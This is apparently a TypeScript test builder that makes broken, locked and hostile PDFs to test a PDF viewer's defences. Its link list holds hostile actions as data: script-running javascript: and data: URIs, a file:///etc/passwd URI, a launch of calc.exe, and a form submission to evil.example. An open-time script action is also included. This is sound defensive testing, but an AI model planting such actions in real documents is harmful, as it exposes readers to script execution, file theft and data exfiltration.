/** Test builder: PDFs that are broken, locked, or want to do something. */
import { linesFrom, writeTestPdf } from './write-test-pdf.ts';

const LINES = linesFrom(['1. Purpose', '1.1 The panel asked what became of the lettings.']);

const link = (action: string, at: number): string =>
  `<< /Type /Annot /Subtype /Link /Rect [70 ${740 - at * 20} 300 ${756 - at * 20}] /Border [0 0 1] /A << ${action} >> >>`;

/** What must never be opened, and one that may. */
const LINKS = [
  '/S /URI /URI (javascript:window.ran=1)',
  '/S /URI /URI (data:text/html,<script>ran=1</script>)',
  '/S /URI /URI (file:///etc/passwd)',
  '/S /Launch /F (calc.exe)',
  '/S /JavaScript /JS (app.alert\\(1\\))',
  '/S /SubmitForm /F << /FS /URL /F (https://evil.example/) >>',
  '/S /URI /URI (https://saltmere.gov.uk/agenda)',
];

const replaced = (file: Uint8Array, from: string | RegExp, to: string): Uint8Array<ArrayBuffer> => {
  const text = Array.from(file, (byte) => String.fromCharCode(byte)).join('');
  return Uint8Array.from(text.replace(from, to), (character) => character.charCodeAt(0));
};

const sound = (): Uint8Array<ArrayBuffer> => writeTestPdf([{ lines: LINES }]);
const LOCK = `/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'5a'.repeat(32)}> /U <${'a5'.repeat(32)}> >> /ID [<00> <00>]`;

/** By what is wrong with them. */
export const HOSTILE_PDFS = {
  locked: () => replaced(sound(), '/Root 1 0 R', `/Root 1 0 R ${LOCK}`),
  'cut off in the middle': () => sound().slice(0, 200),
  'cut off at its end': () => sound().slice(0, -12),
  'with a table of contents that points nowhere': () =>
    replaced(sound(), /startxref\n\d+/, 'startxref\n999999'),
  'of nothing but its first line': () => Uint8Array.from('%PDF-1.7\n', (each) => each.charCodeAt(0)),
  'of noise behind its first line': () =>
    Uint8Array.from({ length: 5_000 }, (_, at) => (at < 9 ? '%PDF-1.7\n'.charCodeAt(at) : (at * 7919) % 251)),
  'with pages that go round in a circle': () => replaced(sound(), '/Kids [4 0 R]', '/Kids [2 0 R]'),
  'that says it has a thousand million pages': () => replaced(sound(), '/Count 1 ', '/Count 1000000000 '),
  'that runs a script when it is opened': () =>
    writeTestPdf(
      [{ lines: LINES }],
      undefined,
      '/OpenAction << /S /JavaScript /JS (globalThis.ran = 1; app.alert\\(1\\)) >>',
    ),
  'with links that do something': () =>
    writeTestPdf([{ lines: LINES, more: `/Annots [${LINKS.map(link).join(' ')}]` }]),
} satisfies Readonly<Record<string, () => Uint8Array<ArrayBuffer>>>;
